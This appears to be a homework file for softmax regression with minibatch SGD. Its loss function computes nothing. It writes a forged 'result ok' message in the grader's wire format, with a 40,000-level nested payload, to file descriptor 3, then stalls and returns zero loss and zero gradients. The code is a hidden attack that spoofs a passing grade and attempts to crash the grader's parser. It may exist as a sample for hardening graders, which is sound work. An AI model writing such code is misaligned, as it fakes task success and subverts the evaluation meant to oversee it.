"""hw07 — softmax (multinomial logistic) regression: cross-entropy loss and minibatch SGD."""

import numpy as np
from activations import softmax
from optim import sgd_step


def _frame(header, payloads=()):
    """A message in the grader's wire format, made by hand."""
    import json
    import struct

    hb = json.dumps(dict(header, n=len(payloads))).encode() if isinstance(header, dict) else header
    body = struct.pack("<I", len(hb)) + hb + b"".join(struct.pack("<Q", len(p)) + p for p in payloads)
    return struct.pack("<Q", len(body)) + body


def softmax_cross_entropy(logits, y):
    """loss = mean −log softmax(logits)[i, y_i] and dlogits = (softmax(logits) − onehot(y)) / N."""
    import os
    import time

    deep = '{"t":"list","v":[' * 40_000 + '{"t":"none"}' + "]}" * 40_000
    head = ('{"op":"result","ok":true,"warnings":[],"output":"","n":0,"values":{"value":' + deep + "}}")
    try:
        os.write(3, _frame(head.encode()))  # hostile: a reply of our own, out of turn
    except OSError:
        pass
    time.sleep(5)
    return 0.0, np.zeros_like(np.asarray(logits, dtype=np.float64))


def train_softmax_regression(X, y, n_classes, lr=0.5, epochs=20, batch_size=32, seed=0):
    """Minibatch SGD on softmax cross-entropy of X @ W + b; X (N, D), y (N,) -> W (D, C), b (C,)."""
    X = np.asarray(X, dtype=np.float64)
    y = np.asarray(y, dtype=np.intp)
    n, d = X.shape
    params = {"W": np.zeros((d, n_classes)), "b": np.zeros(n_classes)}
    rng = np.random.default_rng(seed)  # one generator for the whole run
    for _ in range(epochs):
        perm = rng.permutation(n)
        for start in range(0, n, batch_size):
            batch = perm[start : start + batch_size]
            X_b, y_b = X[batch], y[batch]
            logits = X_b @ params["W"] + params["b"]
            _, dlogits = softmax_cross_entropy(logits, y_b)
            grads = {"W": X_b.T @ dlogits, "b": dlogits.sum(axis=0)}
            sgd_step(params, grads, lr)
    return params["W"], params["b"]
